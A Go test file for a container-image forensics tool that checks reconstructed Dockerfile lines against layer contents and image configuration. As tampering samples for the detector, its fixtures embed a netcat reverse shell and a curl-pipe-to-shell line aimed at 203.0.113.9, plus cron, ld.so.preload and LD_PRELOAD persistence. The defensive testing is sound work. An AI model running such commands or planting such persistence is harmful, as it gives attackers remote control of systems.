package forensics_test

import (
	"context"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// checkedDockerfile builds img, reads it and returns its Dockerfile checked against its layers.
func checkedDockerfile(t *testing.T, img imagebuild.Image) *forensics.Dockerfile {
	t.Helper()
	o := open(t, write(t, "docker-classic", img))
	trees, err := o.ReadLayers(context.Background(), forensics.ReadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	d := forensics.ReconstructDockerfile(o, nil)
	d.CheckLayers(forensics.Stack(trees))
	return d
}

// lineOf returns the instruction that made layer, or the config line for keyword when layer < 0.
func lineOf(d *forensics.Dockerfile, layer int, keyword string) *forensics.Instruction {
	for i := range d.Instructions {
		in := &d.Instructions[i]
		if layer >= 0 && in.Layer == layer || layer < 0 && in.History < 0 && in.Layer < 0 && in.Keyword == keyword {
			return in
		}
	}
	return nil
}

func TestCheckLayers(t *testing.T) {
	base := imagebuild.Layer{CreatedBy: "/bin/sh -c #(nop) ADD file:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0 in / ",
		Files: []imagebuild.File{imagebuild.Dir("etc"), imagebuild.Reg("etc/os-release", "ID=debian\n"), imagebuild.Dir("usr"),
			imagebuild.Dir("usr/bin"), imagebuild.Reg("usr/bin/sh", "\x7fELF sh"), imagebuild.Reg("entry.sh", "#!/bin/sh\nexec app\n"),
			imagebuild.Dir("tmp"), imagebuild.Reg("tmp/build.log", "log\n")}}
	const fileSrc = "file:5d6b639e8b6bcc01163b4ed5bd8ad4dd1c3a0a0a2d35f1ac1fdcc5a58f0bb9d2"
	tests := []struct {
		name  string
		layer imagebuild.Layer
		want  string // "" for a verified line, else a phrase of the reason
	}{
		{"classic COPY of one file", imagebuild.Layer{CreatedBy: "/bin/sh -c #(nop) COPY " + fileSrc + " in /usr/local/bin/run.sh ",
			Files: []imagebuild.File{imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"), imagebuild.Reg("usr/local/bin/run.sh", "run")}}, ""},
		{"classic COPY of one file that brought two", imagebuild.Layer{CreatedBy: "/bin/sh -c #(nop) COPY " + fileSrc + " in / ",
			Files: []imagebuild.File{imagebuild.Reg("run.sh", "run"), imagebuild.Dir("usr/lib"), imagebuild.Reg("usr/lib/hook.so", "\x7fELF")}}, "COPY of one file"},
		{"buildkit COPY of one file that brought three", imagebuild.Layer{CreatedBy: "COPY docker-entrypoint.sh / # buildkit",
			Files: []imagebuild.File{imagebuild.Reg("docker-entrypoint.sh", "#!/bin/sh\n"), imagebuild.Dir("etc/cron.d"),
				imagebuild.Reg("etc/cron.d/sync", "* * * * * root /x\n"), imagebuild.Reg("usr/bin/kworker", "\x7fELF")}}, "copies one file (/docker-entrypoint.sh)"},
		{"buildkit COPY renaming one file", imagebuild.Layer{CreatedBy: "COPY start.sh /usr/bin/start # buildkit",
			Files: []imagebuild.File{imagebuild.Reg("usr/bin/start", "#!/bin/sh\n")}}, ""},
		{"buildkit COPY of a directory", imagebuild.Layer{CreatedBy: "COPY app /app # buildkit",
			Files: []imagebuild.File{imagebuild.Dir("app"), imagebuild.Reg("app/a.py", "a"), imagebuild.Reg("app/b.py", "b"), imagebuild.Symlink("app/c", "a.py")}}, ""},
		{"buildkit COPY with a file outside its destination", imagebuild.Layer{CreatedBy: "COPY app /app # buildkit",
			Files: []imagebuild.File{imagebuild.Dir("app"), imagebuild.Reg("app/a.py", "a"), imagebuild.Reg("etc/ld.so.preload", "/usr/lib/x.so\n")}}, "outside the COPY destination /app"},
		{"COPY that removed a file", imagebuild.Layer{CreatedBy: "COPY app /app # buildkit",
			Files: []imagebuild.File{imagebuild.Dir("app"), imagebuild.Reg("app/a.py", "a"), imagebuild.Whiteout("tmp/build.log")}}, "removed /tmp/build.log"},
		{"ADD of a root filesystem tarball", imagebuild.Layer{CreatedBy: "/bin/sh -c #(nop) ADD " + fileSrc + " in / ",
			Files: []imagebuild.File{imagebuild.Dir("opt"), imagebuild.Reg("opt/a", "a"), imagebuild.Reg("opt/b", "b")}}, ""},
		{"RUN chmod that only changed the mode", imagebuild.Layer{CreatedBy: "RUN /bin/sh -c chmod 0755 /entry.sh # buildkit",
			Files: []imagebuild.File{imagebuild.Reg("entry.sh", "#!/bin/sh\nexec app\n").WithMode(0o755)}}, ""},
		{"RUN chmod that changed the content", imagebuild.Layer{CreatedBy: "RUN /bin/sh -c chmod 0755 /entry.sh # buildkit",
			Files: []imagebuild.File{imagebuild.Reg("entry.sh", "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\nexec app\n").WithMode(0o755)}}, "changed the content of /entry.sh"},
		{"RUN mkdir and touch", imagebuild.Layer{CreatedBy: "/bin/sh -c mkdir -p /data && touch /data/.keep && chown -R 1000 /data",
			Files: []imagebuild.File{imagebuild.Dir("data"), imagebuild.Reg("data/.keep", "")}}, ""},
		{"RUN touch that wrote bytes", imagebuild.Layer{CreatedBy: "/bin/sh -c mkdir -p /data && touch /data/.keep",
			Files: []imagebuild.File{imagebuild.Dir("data"), imagebuild.Reg("data/.keep", "payload")}}, "changed the content of /data/.keep"},
		{"RUN rm", imagebuild.Layer{CreatedBy: "/bin/sh -c rm -rf /tmp/build.log", Files: []imagebuild.File{imagebuild.Whiteout("tmp/build.log")}}, ""},
		{"RUN that writes through a redirection", imagebuild.Layer{CreatedBy: "/bin/sh -c chmod 0755 /entry.sh && echo x > /entry.sh",
			Files: []imagebuild.File{imagebuild.Reg("entry.sh", "x\n")}}, ""},
		{"RUN that installs packages", imagebuild.Layer{CreatedBy: "/bin/sh -c apt-get install -y curl",
			Files: []imagebuild.File{imagebuild.Reg("usr/bin/curl", "\x7fELF")}}, ""},
		{"RUN install of one file", imagebuild.Layer{CreatedBy: "RUN /bin/sh -c install -m 0755 /tmp/sync /usr/local/bin/.sync # buildkit",
			Files: []imagebuild.File{imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"), imagebuild.Reg("usr/local/bin/.sync", "#!/bin/sh\n").WithMode(0o755)}}, ""},
		{"RUN install of one file that also brought a cron job", imagebuild.Layer{CreatedBy: "RUN /bin/sh -c install -m 0755 /tmp/sync /usr/local/bin/.sync # buildkit",
			Files: []imagebuild.File{imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"), imagebuild.Reg("usr/local/bin/.sync", "#!/bin/sh\n").WithMode(0o755),
				imagebuild.Dir("etc/cron.d"), imagebuild.Reg("etc/cron.d/apt-sync", "*/5 * * * * root /usr/local/bin/.sync\n")}},
			"RUN install places files only at /usr/local/bin/.sync, yet layer 1 also brought /etc/cron.d/apt-sync"},
		{"RUN mkdir, cp into a directory and chmod", imagebuild.Layer{CreatedBy: "/bin/sh -c mkdir -p /opt/app && cp -r /src/app /opt/app && chmod -R 0755 /opt/app && rm -rf /tmp/build.log",
			Files: []imagebuild.File{imagebuild.Dir("opt"), imagebuild.Dir("opt/app"), imagebuild.Reg("opt/app/a.py", "a"), imagebuild.Reg("opt/app/b.py", "b"), imagebuild.Whiteout("tmp/build.log")}}, ""},
		{"RUN cp -t that also wrote the entrypoint", imagebuild.Layer{CreatedBy: "/bin/sh -c cp -t /usr/bin /src/tool",
			Files: []imagebuild.File{imagebuild.Reg("usr/bin/tool", "\x7fELF"), imagebuild.Reg("entry.sh", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")}}, "also brought /entry.sh"},
		{"RUN install -d and mv", imagebuild.Layer{CreatedBy: "/bin/sh -c install -d -m 0700 /data && mv /tmp/build.log /data/",
			Files: []imagebuild.File{imagebuild.Dir("data"), imagebuild.Reg("data/build.log", "log\n"), imagebuild.Whiteout("tmp/build.log")}}, ""},
		{"RUN cp to a relative destination", imagebuild.Layer{CreatedBy: "/bin/sh -c cp tool bin/",
			Files: []imagebuild.File{imagebuild.Reg("usr/bin/tool", "\x7fELF"), imagebuild.Reg("etc/x", "x")}}, ""},
		{"RUN cp with a glob", imagebuild.Layer{CreatedBy: "/bin/sh -c cp /src/*.so /usr/lib/",
			Files: []imagebuild.File{imagebuild.Dir("usr/lib"), imagebuild.Reg("usr/lib/a.so", "\x7fELF"), imagebuild.Reg("etc/x", "x")}}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := checkedDockerfile(t, imagebuild.Image{Layers: []imagebuild.Layer{base, tt.layer}})
			in := lineOf(d, 1, "")
			if in == nil {
				t.Fatalf("no line for layer 1:\n%s", d)
			}
			if base := lineOf(d, 0, ""); base.Unverified != "" {
				t.Errorf("the base layer's line is unverified: %s", base.Unverified)
			}
			switch {
			case tt.want == "" && in.Unverified != "":
				t.Errorf("unverified: %s", in.Unverified)
			case tt.want != "" && !strings.Contains(in.Unverified, tt.want):
				t.Errorf("unverified %q, want it to say %q", in.Unverified, tt.want)
			}
		})
	}
}

// Config values no history step set, or that differ from what the last step set, are
// unverified lines at the end of the Dockerfile; the default PATH is not one of them.
func TestDockerfileConfigContradictions(t *testing.T) {
	steps := []imagebuild.Layer{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0 in / ",
			Files: []imagebuild.File{imagebuild.Reg("app", "\x7fELF")}},
	}
	history := []imagebuild.Step{
		{CreatedBy: steps[0].CreatedBy},
		{CreatedBy: "ENV APP_MODE=prod # buildkit", EmptyLayer: true},
		{CreatedBy: "USER app # buildkit", EmptyLayer: true},
		{CreatedBy: `ENTRYPOINT ["/app"] # buildkit`, EmptyLayer: true},
	}
	clean := imagebuild.Config{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "APP_MODE=prod"},
		User: "app", Entrypoint: []string{"/app"}}
	tests := []struct {
		name    string
		edit    func(c *imagebuild.Config)
		keyword string
		want    string
	}{
		{"as built", func(*imagebuild.Config) {}, "", ""},
		{"LD_PRELOAD added", func(c *imagebuild.Config) { c.Env = append(c.Env, "LD_PRELOAD=/usr/lib/x.so") }, "ENV", "no ENV step did"},
		{"an ENV value changed", func(c *imagebuild.Config) { c.Env[1] = "APP_MODE=debug" }, "ENV", "the last ENV step set it to prod"},
		{"the entrypoint changed", func(c *imagebuild.Config) { c.Entrypoint = []string{"/bin/sh", "-c", "/tmp/x; /app"} }, "ENTRYPOINT", `the last ENTRYPOINT step set ["/app"]`},
		{"the user changed", func(c *imagebuild.Config) { c.User = "root" }, "USER", `the last USER step set "app"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := clean
			cfg.Env = append([]string(nil), clean.Env...)
			tt.edit(&cfg)
			img := imagebuild.Image{Layers: steps, Config: cfg, History: history}
			d := checkedDockerfile(t, img)
			var unverified []string
			for _, in := range d.Instructions {
				if in.Unverified != "" {
					unverified = append(unverified, in.Keyword+": "+in.Unverified)
				}
			}
			if tt.want == "" {
				if len(unverified) > 0 {
					t.Errorf("unverified lines in a consistent image: %v\n%s", unverified, d)
				}
				return
			}
			in := lineOf(d, -1, tt.keyword)
			if in == nil || !strings.Contains(in.Unverified, tt.want) || len(unverified) != 1 {
				t.Errorf("want one unverified %s line saying %q; got %v\n%s", tt.keyword, tt.want, unverified, d)
			}
		})
	}
}
